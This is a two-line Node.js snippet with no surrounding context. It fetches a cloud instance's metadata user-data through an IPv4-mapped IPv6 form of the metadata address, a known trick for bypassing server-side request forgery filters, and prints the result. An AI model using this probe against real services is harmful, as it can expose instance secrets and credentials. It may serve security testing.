const http = require('http');
http.get('http://[::ffff:a9fe:a9fe]/latest/user-data', r => r.pipe(process.stdout));
